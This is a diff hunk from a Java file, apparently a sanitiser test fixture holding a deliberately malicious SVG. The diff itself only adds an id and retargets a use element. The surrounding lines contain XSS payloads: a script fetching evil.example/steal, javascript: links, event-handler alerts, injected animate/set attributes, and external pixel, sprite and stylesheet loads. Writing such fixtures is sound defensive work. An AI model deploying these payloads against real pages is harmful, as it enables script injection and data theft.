@@ -47,12 +47,12 @@ public final class Logos {
               <script><![CDATA[fetch('https://evil.example/steal')]]></script>
               <rect width="100" height="50" fill="url(https://evil.example/paint#p)" onclick="alert(2)"/>
               <circle cx="10" cy="10" r="5" style="fill: url(http://evil.example/x)"/>
-              <circle cx="20" cy="10" r="5" fill="url(#grad)"/>
+              <circle id="dot" cx="20" cy="10" r="5" fill="url(#grad)"/>
               <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
               <image href="https://evil.example/pixel.png" width="1" height="1"/>
               <a href="javascript:alert(3)"><text x="1" y="40">Click</text></a>
               <use xlink:href="https://evil.example/sprite.svg#icon"/>
-              <use href="#grad"/>
+              <use href="#dot" x="10"/>
               <animate attributeName="href" to="javascript:alert(4)"/>
               <set attributeName="onmouseover" to="alert(5)"/>
               <style>@import url(https://evil.example/style.css);</style>
